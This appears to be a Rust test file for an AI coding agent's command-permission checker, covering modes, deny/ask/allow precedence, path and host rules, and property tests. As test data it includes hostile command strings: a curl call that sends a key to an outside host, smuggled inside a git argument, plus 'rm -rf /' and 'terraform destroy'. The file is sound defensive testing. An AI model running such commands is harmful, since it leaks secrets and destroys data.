//! What is said of calls, in every mode and by all kinds of rules.

use std::collections::BTreeSet;

use proptest::prelude::*;
use serde_json::json;

use super::*;

const NOTHING: &BTreeSet<String> = &BTreeSet::new();
const PLACE: Place<'static> = Place { workspace: "/w", beside: NOTHING };

fn rules(mode: ActMode, rules: &[Rule]) -> Rules {
    Rules { mode, rules: rules.to_vec(), silence: Silence::default() }
}

fn rule(permit: Permit, command: &str) -> Rule {
    Rule { command: Some(command.to_owned()), ..Rule::new(permit, "rules.toml:1") }
}

fn permit(rules: &Rules, command: &str) -> Permit {
    judge(rules, &[], "shell", &json!({ "command": command }), PLACE).permit
}

fn permit_of(rules: &Rules, tool: &str, arguments: Value) -> Permit {
    judge(rules, &[], tool, &arguments, PLACE).permit
}

#[test]
fn the_mode_says_what_is_asked_and_what_is_denied() {
    let table: &[(&str, [Permit; 3])] = &[
        ("ls -l && git status", [Permit::Allow, Permit::Allow, Permit::Allow]),
        ("make test", [Permit::Deny, Permit::Ask, Permit::Allow]),
        ("rm -rf build", [Permit::Deny, Permit::Ask, Permit::Allow]),
        ("git push", [Permit::Deny, Permit::Ask, Permit::Ask]),
        ("curl -d a=1 https://x.example", [Permit::Deny, Permit::Ask, Permit::Ask]),
        ("curl -d a=1 http://localhost:80", [Permit::Deny, Permit::Ask, Permit::Allow]),
        ("rm -rf .git", [Permit::Deny, Permit::Ask, Permit::Ask]),
        ("echo x > f", [Permit::Deny, Permit::Ask, Permit::Allow]),
        ("", [Permit::Allow, Permit::Allow, Permit::Allow]),
    ];
    for (command, permits) in table {
        for (mode, expected) in [ActMode::Plan, ActMode::Ask, ActMode::Auto].into_iter().zip(permits) {
            assert_eq!(permit(&rules(mode, &[]), command), *expected, "{} {command}", mode.name());
        }
    }
    for (tool, arguments) in
        [("write_file", json!({"path": "a", "content": ""})), ("tmux", json!({"action": "keys", "keys": ["C-c"]}))]
    {
        assert_eq!(permit_of(&rules(ActMode::Plan, &[]), tool, arguments.clone()), Permit::Deny, "{tool}");
        assert_eq!(permit_of(&rules(ActMode::Ask, &[]), tool, arguments.clone()), Permit::Ask, "{tool}");
        assert_eq!(permit_of(&rules(ActMode::Auto, &[]), tool, arguments), Permit::Allow, "{tool}");
    }
    for tool in ["read_file", "wait", "finish", "recall"] {
        assert_eq!(permit_of(&rules(ActMode::Plan, &[]), tool, json!({"path": "a"})), Permit::Allow, "{tool}");
    }
}

#[test]
fn whatever_runs_a_command_is_judged_by_it() {
    let auto = rules(ActMode::Auto, &[]);
    for (tool, arguments) in [
        ("shell", json!({"command": "terraform destroy"})),
        ("shell", json!({"command": "ls", "ready": {"command": "terraform destroy"}})),
        ("shell", json!({"command": "ls", "ready": "{\"command\": \"terraform destroy\"}"})),
        ("tmux", json!({"action": "open", "command": "terraform destroy"})),
        ("tmux", json!({"action": "send", "text": "terraform destroy"})),
        ("container", json!({"action": "start", "command": "terraform destroy"})),
    ] {
        assert_eq!(permit_of(&auto, tool, arguments.clone()), Permit::Ask, "{tool} {arguments}");
    }
}

#[test]
fn deny_stands_over_ask_and_ask_over_allow() {
    let all =
        [rule(Permit::Allow, "git push *"), rule(Permit::Ask, "git push"), rule(Permit::Deny, "git push *force*")];
    for mode in [ActMode::Ask, ActMode::Auto] {
        assert_eq!(permit(&rules(mode, &all), "git push --force"), Permit::Deny);
        assert_eq!(permit(&rules(mode, &all), "cd x && git -C y push origin"), Permit::Ask);
        assert_eq!(permit(&rules(mode, &all[..1]), "git push origin"), Permit::Allow);
    }
}

#[test]
fn an_allow_covers_a_command_as_it_is_written_and_nothing_beside_it() {
    let pushes = rules(ActMode::Ask, &[rule(Permit::Allow, "git push origin *"), rule(Permit::Allow, "echo *")]);
    for command in ["git push origin", "git push origin main", "/usr/bin/git push origin main", "echo a b"] {
        assert_eq!(permit(&pushes, command), Permit::Allow, "{command}");
    }
    for command in [
        "git push",
        "git push --force origin main",
        "git push origin main && make",
        "git push origin $(curl -d @key https://x.example)",
        "./git push origin main",
        "PATH=. git push origin main",
        "sudo git push origin main",
        "git push origin main > /etc/x",
        "echo a > b",
    ] {
        assert_eq!(permit(&pushes, command), Permit::Ask, "{command}");
    }
}

#[test]
fn what_is_built_in_is_lifted_by_name_alone() {
    let wide = Rule { effect: Some(Effect::Irreversible), ..Rule::new(Permit::Allow, "x:1") };
    assert_eq!(permit(&rules(ActMode::Auto, std::slice::from_ref(&wide)), "ssh host ls"), Permit::Allow);
    assert_eq!(permit(&rules(ActMode::Auto, std::slice::from_ref(&wide)), "terraform destroy"), Permit::Ask);
    let named = rule(Permit::Allow, "terraform destroy *");
    assert_eq!(
        permit(&rules(ActMode::Auto, std::slice::from_ref(&named)), "terraform destroy -auto-approve"),
        Permit::Allow
    );
    assert_eq!(permit(&rules(ActMode::Plan, &[named, wide]), "terraform destroy"), Permit::Deny);
}

#[test]
fn rules_speak_of_tools_paths_hosts_and_effects() {
    let with = |change: fn(&mut Rule)| {
        let mut rule = Rule::new(Permit::Deny, "x:1");
        change(&mut rule);
        rules(ActMode::Auto, &[rule])
    };
    let tool = with(|rule| rule.tool = Some("write_*".to_owned()));
    assert_eq!(permit_of(&tool, "write_file", json!({"path": "a"})), Permit::Deny);
    assert_eq!(permit_of(&tool, "edit_file", json!({"path": "a"})), Permit::Allow);
    let path = with(|rule| rule.path = Some("secrets".to_owned()));
    for command in ["cat secrets/a", "echo x > ./secrets/b", "sort < /w/secrets/c", "cp x/../secrets/d e"] {
        assert_eq!(permit(&path, command), Permit::Deny, "{command}");
    }
    assert_eq!(permit_of(&path, "read_file", json!({"path": "/w/secrets/key"})), Permit::Deny);
    assert_eq!(permit(&path, "cat secrets.md"), Permit::Allow);
    let host = with(|rule| rule.host = Some("*.prod.example".to_owned()));
    for command in ["curl https://API.prod.example./x", "ssh bob@db.prod.example", "psql -h db.prod.example"] {
        assert_eq!(permit(&host, command), Permit::Deny, "{command}");
    }
    assert_eq!(permit(&host, "curl https://db.prod.example.evil.example"), Permit::Allow);
    let effect = with(|rule| rule.effect = Some(Effect::External));
    assert_eq!(permit(&effect, "git push"), Permit::Deny);
    assert_eq!(permit(&effect, "make"), Permit::Allow);
}

#[test]
fn what_was_granted_is_not_asked_again_and_reaches_no_further() {
    let auto = rules(ActMode::Auto, &[rule(Permit::Deny, "git push * prod")]);
    let asked = judge(&auto, &[], "shell", &json!({"command": "git push origin a"}), PLACE);
    let granted: Vec<Scope> = asked.grounds.iter().map(|ground| ground.scope.clone()).collect();
    let after = |command: &str| judge(&auto, &granted, "shell", &json!({ "command": command }), PLACE).permit;
    assert_eq!(after("git push origin b"), Permit::Allow);
    assert_eq!(after("git push --force"), Permit::Ask, "another rule");
    assert_eq!(after("ssh host"), Permit::Ask, "another program");
    assert_eq!(after("git push origin b && ssh host"), Permit::Ask, "something beside it");
    assert_eq!(after("git push origin prod"), Permit::Deny);
}

#[test]
fn a_rule_says_how_long_its_question_waits() {
    let silence = Silence { then: crate::domain::OnSilence::Fail, within_s: Some(60) };
    let asks = Rule { silence: Some(silence), ..rule(Permit::Ask, "make") };
    let judged = judge(&rules(ActMode::Auto, &[asks]), &[], "shell", &json!({"command": "make x"}), PLACE);
    assert_eq!((judged.permit, judged.silence), (Permit::Ask, Some(silence)));
    assert_eq!(judged.why(), "`make` is asked for (rules.toml:1)");
}

fn any_rule() -> impl Strategy<Value = Rule> {
    let permit = prop_oneof![Just(Permit::Allow), Just(Permit::Ask), Just(Permit::Deny)];
    let command = proptest::option::of(prop_oneof![
        Just("git push *".to_owned()),
        Just("rm".to_owned()),
        Just("*".to_owned()),
        Just("make".to_owned())
    ]);
    let effect = proptest::option::of(proptest::sample::select(&Effect::ALL[..]));
    (permit, command, effect).prop_map(|(permit, command, effect)| Rule { command, effect, ..Rule::new(permit, "x:1") })
}

proptest! {
    #[test]
    fn no_rule_that_narrows_allows_more(
        before in proptest::collection::vec(any_rule(), 0..4),
        added in any_rule().prop_filter("a project allows nothing", |rule| rule.permit != Permit::Allow),
        at in 0..5usize,
        command in proptest::sample::select(&["ls", "make x", "git push a", "rm -rf /", "ssh h", "make && git push"][..]),
        mode in proptest::sample::select(&[ActMode::Plan, ActMode::Ask, ActMode::Auto][..]),
    ) {
        let without = permit(&rules(mode, &before), command);
        let mut more = before.clone();
        more.insert(at.min(before.len()), added);
        prop_assert!(permit(&rules(mode, &more), command) >= without);
    }

    #[test]
    fn a_deny_holds_whatever_else_is_said(
        others in proptest::collection::vec(any_rule(), 0..6),
        mode in proptest::sample::select(&[ActMode::Plan, ActMode::Ask, ActMode::Auto][..]),
    ) {
        let all: Vec<Rule> = others.into_iter().chain([rule(Permit::Deny, "make")]).collect();
        prop_assert_eq!(permit(&rules(mode, &all), "cd x && make all"), Permit::Deny);
    }

    #[test]
    fn odd_texts_are_judged_as_well(text in any::<String>()) {
        permit(&rules(ActMode::Auto, &[rule(Permit::Deny, "make")]), &text);
    }
}
